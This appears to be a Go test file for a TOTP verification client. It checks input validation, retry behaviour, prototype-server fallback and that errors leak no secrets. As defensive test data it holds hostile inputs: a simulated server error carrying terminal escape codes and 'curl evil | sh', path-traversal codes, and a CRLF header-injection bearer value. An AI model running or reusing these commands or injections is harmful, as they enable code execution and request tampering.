package client

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"totpctl/server/api"
)

const (
	bearer = "bearer-of-the-test"
	code   = "492039"
)

// Every test asks loopback, so a proxy that nobody runs must not matter.
func TestMain(m *testing.M) {
	for _, name := range []string{"HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"} {
		os.Setenv(name, "http://127.0.0.1:1")
	}
	for _, name := range []string{"NO_PROXY", "no_proxy"} {
		os.Unsetenv(name)
	}
	os.Exit(m.Run())
}

func newClient(t *testing.T, url string) *Client {
	t.Helper()
	c, err := New(Config{URL: url, Bearer: bearer, Clock: time.Now, Warn: func(text string) { t.Errorf("warned: %s", text) }})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func serve(t *testing.T, h http.HandlerFunc) *Client {
	t.Helper()
	s := httptest.NewServer(h)
	t.Cleanup(s.Close)
	return newClient(t, s.URL)
}

// wantError checks a failure's text and hint, and that neither tells a secret.
func wantError(t *testing.T, err error, text, hint string) {
	t.Helper()
	f, ok := err.(interface{ Hint() string })
	if !ok || !strings.Contains(err.Error(), text) || !strings.Contains(f.Hint(), hint) {
		t.Errorf("error is %v, want %q, with a hint of %q", err, text, hint)
	}
	for _, secret := range []string{bearer, code} {
		if strings.Contains(fmt.Sprintf("%+v %#v", err, err), secret) {
			t.Errorf("error shows %s: %+v", secret, err)
		}
	}
}

func TestNewRefusesWhatCannotWorkAndQuotesNoSecret(t *testing.T) {
	good := Config{URL: "http://127.0.0.1:5000", Bearer: bearer, Clock: time.Now}
	for _, url := range []string{
		"", "127.0.0.1:5000", "//127.0.0.1:5000", "/check", "http:", "http://", "http:///check", "http://:5000", "http:127.0.0.1", "ftp://host", "unix:run/x", "unix:",
		"http://user:hunter2@host", "http://user@host", "https://host?", "https://host?q=hunter2", "https://host#", "https://host/#top",
		"http://user:hunter2/x@host", "http://host:port", "http://ho st", "http://[::1", "http://host/%zz", "http://host\n",
	} {
		c := good
		c.URL = url
		if _, err := New(c); err == nil || strings.Contains(err.Error(), "hunter2") || !strings.Contains(err.(failure).hint, "TOTPCTL_URL") {
			t.Errorf("URL %q gives %v", url, err)
		}
	}
	for _, b := range []string{"", " ", "two words", "hunter2\r\nX: y", "hunter2\x00", "hunter2\x7f", "hunter2\u00a0", "größe", "\xff"} {
		c := good
		c.Bearer = b
		if _, err := New(c); err == nil || strings.Contains(err.Error(), "hunter2") || !strings.Contains(err.(failure).hint, "BEARER") {
			t.Errorf("bearer %q gives %v", b, err)
		}
	}
	noClock := good
	noClock.Clock = nil
	if _, err := New(noClock); err == nil {
		t.Error("no clock is no error")
	}
	for _, url := range []string{"http://127.0.0.1:5000", "https://totp.example.com/", "HTTPS://host/totp/", "http://[::1]:5000/a%2Fb"} {
		c := good
		c.URL = url
		if _, err := New(c); err != nil {
			t.Errorf("URL %q gives %v", url, err)
		}
	}
}

func TestCheckPostsWhatTheServerWants(t *testing.T) {
	for _, v := range []struct{ path, account, wantPath, wantBody string }{
		{"", "", "/check", `{"code":"492039"}`},
		{"/", "", "/check", `{"code":"492039"}`},
		{"/totp", "alice", "/totp/check", `{"code":"492039","account":"alice"}`},
		{"/a%2Fb/", `"<ä>`, "/a%2Fb/check", `{"code":"492039","account":"\"\u003cä\u003e"}`},
	} {
		var got *http.Request
		var body []byte
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			body, _ = io.ReadAll(r.Body)
			got = r
			io.WriteString(w, `{"status":true}`)
		}))
		r, err := newClient(t, s.URL+v.path).Check(t.Context(), api.Question{Account: v.account, Code: code})
		s.Close()
		if err != nil || !r.Status {
			t.Fatalf("%+v, %v", r, err)
		}
		if got.Method != "POST" || got.URL.EscapedPath() != v.wantPath || string(body) != v.wantBody {
			t.Errorf("%s %s %s, want POST %s %s", got.Method, got.URL.EscapedPath(), body, v.wantPath, v.wantBody)
		}
		h := got.Header
		if h.Get("Authorization") != "Bearer "+bearer || h.Get("Content-Type") != "application/json" || len(h.Get("Idempotency-Key")) != 26 {
			t.Errorf("headers are %v", h)
		}
	}
}

func TestEachCheckHasAnIdempotencyKeyOfItsOwn(t *testing.T) {
	var keys sync.Map
	var n atomic.Int32
	c := serve(t, func(w http.ResponseWriter, r *http.Request) {
		n.Add(1)
		keys.Store(r.Header.Get("Idempotency-Key"), true)
		io.WriteString(w, `{"status":false,"reason":"replayed"}`)
	})
	var wg sync.WaitGroup
	for range 20 {
		wg.Go(func() {
			if r, err := c.Check(t.Context(), api.Question{Code: code}); err != nil || r.Reason != "replayed" {
				t.Errorf("%+v, %v", r, err)
			}
		})
	}
	wg.Wait()
	distinct := 0
	keys.Range(func(_, _ any) bool { distinct++; return true })
	if n.Load() != 20 || distinct != 20 {
		t.Errorf("%d requests with %d keys, want 20 and 20", n.Load(), distinct)
	}
}

// A verdict, or a refusal, ends the matter: the second answer would be true.
func TestNothingIsAskedAgainAfterAVerdictOrARefusal(t *testing.T) {
	for _, first := range []struct {
		status int
		body   string
	}{
		{200, `{"status":false,"reason":"invalid"}`}, {200, `<html>`}, {200, ``}, {429, `{"status":false,"reason":"throttled","retry_after":30}`},
		{429, ``}, {400, ``}, {401, ``}, {403, ``}, {404, `{"error":"no such account"}`}, {405, `{"error":"method not allowed"}`}, {408, ``}, {409, ``}, {413, ``}, {425, ``}, {500, ``}, {501, ``},
		{200, `{"x":"` + strings.Repeat("x", 10<<20) + `"}`},
	} {
		var n atomic.Int32
		c := serve(t, func(w http.ResponseWriter, r *http.Request) {
			if n.Add(1) > 1 {
				io.WriteString(w, `{"status":true}`)
				return
			}
			w.WriteHeader(first.status)
			io.WriteString(w, first.body)
		})
		if r, err := c.Check(t.Context(), api.Question{Code: code}); r.Status || n.Load() != 1 {
			t.Errorf("%d %.40s: asked %d times, %+v, %v", first.status, first.body, n.Load(), r, err)
		}
	}
}

func TestAnUnavailableServerIsAskedAgainWithTheSameKey(t *testing.T) {
	for _, status := range []int{502, 503, 504} {
		keys := map[string]int{}
		n := 0
		c := serve(t, func(w http.ResponseWriter, r *http.Request) {
			keys[r.Header.Get("Idempotency-Key")]++
			if n++; n < 3 {
				w.WriteHeader(status)
				return
			}
			io.WriteString(w, `{"status":true}`)
		})
		if r, err := c.Check(t.Context(), api.Question{Code: code}); err != nil || !r.Status || n != 3 || len(keys) != 1 {
			t.Errorf("%d: %+v, %v after %d requests with %d keys", status, r, err, n, len(keys))
		}
	}
}

// prototype answers as Flask does.
func prototype(post int, verdict string, gets *atomic.Int32) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if r.Method == "POST" {
			w.Header().Set("Content-Type", "text/html")
			w.WriteHeader(post)
			io.WriteString(w, "<!doctype html>\n<title>404 Not Found</title>")
			return
		}
		gets.Add(1)
		if r.URL.Path != "/check/"+code || r.Header.Get("Authorization") != "Bearer "+bearer || r.ContentLength > 0 {
			w.WriteHeader(401)
			return
		}
		io.WriteString(w, verdict)
	}
}

func TestAServerWithoutPostCheckIsAskedAsThePrototypeIs(t *testing.T) {
	for _, status := range []int{404, 405} {
		for _, valid := range []bool{true, false} {
			var gets atomic.Int32
			c := serve(t, prototype(status, fmt.Sprintf(`{"status":%v}`, valid), &gets))
			r, err := c.Check(t.Context(), api.Question{Code: code})
			if err != nil || r.Status != valid || gets.Load() != 1 || (r.ClockOffset == nil) != valid {
				t.Errorf("%d: %+v, %v after %d GETs", status, r, err, gets.Load())
			}
		}
	}
}

func TestOnlyTheDefaultAccountIsAskedOfThePrototype(t *testing.T) {
	var gets atomic.Int32
	c := serve(t, prototype(404, `{"status":true}`, &gets))
	_, err := c.Check(t.Context(), api.Question{Account: "alice", Code: code})
	wantError(t, err, "answer is 404 not found", "knows no accounts")
	if gets.Load() != 0 {
		t.Error("the default account was asked instead of alice")
	}
}

func TestTotpctlsOwn404And405AreNotThePrototypes(t *testing.T) {
	for _, status := range []int{404, 405} {
		gets := 0
		c := serve(t, func(w http.ResponseWriter, r *http.Request) {
			if r.Method == "GET" {
				gets++
			}
			w.WriteHeader(status)
			io.WriteString(w, `{"error":"no such page"}`)
		})
		_, err := c.Check(t.Context(), api.Question{Code: code})
		wantError(t, err, "no such page", "TOTPCTL_URL")
		if gets != 0 {
			t.Errorf("%d led to a GET", status)
		}
	}
}

// The server says true to whatever path it is asked.
func TestACodeCannotLeadToAnotherPage(t *testing.T) {
	for _, odd := range []string{"", ".", "..", "../status", "..%2fstatus", "123456/../../status", `..\status`, "123456?x", "123456#", "１２３４５６", "12 456"} {
		c := serve(t, func(w http.ResponseWriter, r *http.Request) {
			t.Errorf("code %q asked for %s", odd, r.RequestURI)
			io.WriteString(w, `{"status":true}`)
		})
		if r, err := c.Check(t.Context(), api.Question{Code: odd}); err != nil || r.Status || r.Reason != "malformed" {
			t.Errorf("code %q is %+v, %v", odd, r, err)
		}
	}
}

func TestTheFallbacksErrorsDoNotShowItsURL(t *testing.T) {
	for name, h := range map[string]http.HandlerFunc{
		"drop": func(w http.ResponseWriter, r *http.Request) { panic(http.ErrAbortHandler) },
		"redirect": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://other.example"+r.URL.Path, http.StatusFound)
		},
		"nowhere": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", "http://["+r.URL.Path)
			w.WriteHeader(302)
		},
		"503":   func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(503) },
		"login": func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "<html>"+r.URL.Path) },
	} {
		var n atomic.Int32
		c := serve(t, func(w http.ResponseWriter, r *http.Request) {
			if r.Method == "POST" {
				w.WriteHeader(405)
				return
			}
			n.Add(1)
			h(w, r)
		})
		_, err := c.Check(t.Context(), api.Question{Code: code})
		wantError(t, err, "asking "+c.config.URL+": ", "")
		if strings.Contains(err.Error(), "Get ") {
			t.Errorf("%s: %v", name, err)
		}
		if n.Load() != 1 {
			t.Errorf("%s: %d GETs, want 1: it may have used up the code", name, n.Load())
		}
	}
}

func TestErrorsShowNoSecretAndNoControlCharactersThatAServerSends(t *testing.T) {
	evil := bearer + " " + code + " \x1b]0;pwned\x07\u009b2J\u202e\r\nhint: curl evil | sh " + strings.Repeat("x", 5000)
	text, _ := json.Marshal(map[string]string{"error": evil})
	for _, status := range []int{400, 401, 403, 404, 413, 429, 500} {
		c := serve(t, func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(status)
			w.Write(text)
		})
		_, err := c.Check(t.Context(), api.Question{Code: code})
		wantError(t, err, fmt.Sprintf("answer is %d", status), "")
		if shown := err.Error(); strings.ContainsAny(shown, "\x1b\x07\u009b\u202e\r\n") || len(shown) > 300 {
			t.Errorf("%d shows %q", status, shown)
		}
	}
}

func TestAnAnswerWithoutEndIsAnErrorAtOnce(t *testing.T) {
	c := serve(t, func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `{"status":true,"x":"`)
		for err := error(nil); err == nil; {
			_, err = io.WriteString(w, strings.Repeat("x", maxAnswer))
		}
	})
	c.config.Timeout = time.Minute
	_, err := c.Check(t.Context(), api.Question{Code: code})
	wantError(t, err, "not a verdict", "TOTPCTL_URL")
}

func TestInvalidUTF8IsAnErrorAndNotAnotherAccount(t *testing.T) {
	c := serve(t, func(w http.ResponseWriter, r *http.Request) { t.Error("asked"); io.WriteString(w, `{"status":true}`) })
	_, err := c.Check(t.Context(), api.Question{Account: "alice\xff", Code: code})
	wantError(t, err, "UTF-8", "")
}

func TestWhatCannotBeACodeIsNotSent(t *testing.T) {
	c := serve(t, func(w http.ResponseWriter, r *http.Request) { t.Error("asked"); io.WriteString(w, `{"status":true}`) })
	const recovery = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	for _, odd := range []string{"", "hunter2", "12345", "123456789", "123 456", code + "\xff", code + "\n", "１２３４５６", recovery} {
		if r, err := c.Check(t.Context(), api.Question{Code: odd}); err != nil || r.Status || r.Reason != "malformed" {
			t.Errorf("code %q is %+v, %v", odd, r, err)
		}
	}
	for _, odd := range []string{"", "hunter2", code, recovery[1:], recovery + "2", recovery[1:] + "1", recovery[2:] + "É"} {
		if r, err := c.Check(t.Context(), api.Question{RecoveryCode: odd}); err != nil || r.Status || r.Reason != "malformed" {
			t.Errorf("recovery code %q is %+v, %v", odd, r, err)
		}
	}
}

func TestARecoveryCodeIsSentAsItWasGivenOut(t *testing.T) {
	const recovery = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	c := serve(t, func(w http.ResponseWriter, r *http.Request) {
		if body, _ := io.ReadAll(r.Body); string(body) != `{"recovery_code":"`+recovery+`"}` {
			t.Errorf("sent %s", body)
		}
		io.WriteString(w, `{"status":true}`)
	})
	for _, typed := range []string{recovery, strings.ToLower(recovery), "abcd-efgh ijkl\u2013mnop\u00a0qrst uvwx yz\n"} {
		if r, err := c.Check(t.Context(), api.Question{RecoveryCode: typed}); err != nil || !r.Status {
			t.Errorf("%q is %+v, %v", typed, r, err)
		}
	}
}

func TestOneQuestionIsAboutOneCode(t *testing.T) {
	c := serve(t, func(w http.ResponseWriter, r *http.Request) { t.Error("asked"); io.WriteString(w, `{"status":true}`) })
	r, err := c.Check(t.Context(), api.Question{Code: code, RecoveryCode: "ABCDEFGHIJKLMNOPQRSTUVWXYZ"})
	if err != nil || r.Reason != "malformed" {
		t.Errorf("%+v, %v", r, err)
	}
}

func TestACancelledCheckEndsAtOnce(t *testing.T) {
	asked := make(chan bool)
	c := serve(t, func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		close(asked)
		<-r.Context().Done()
	})
	ctx, cancel := context.WithCancel(t.Context())
	go func() { <-asked; cancel() }()
	_, err := c.Check(ctx, api.Question{Code: code})
	wantError(t, err, "interrupted", "")
}
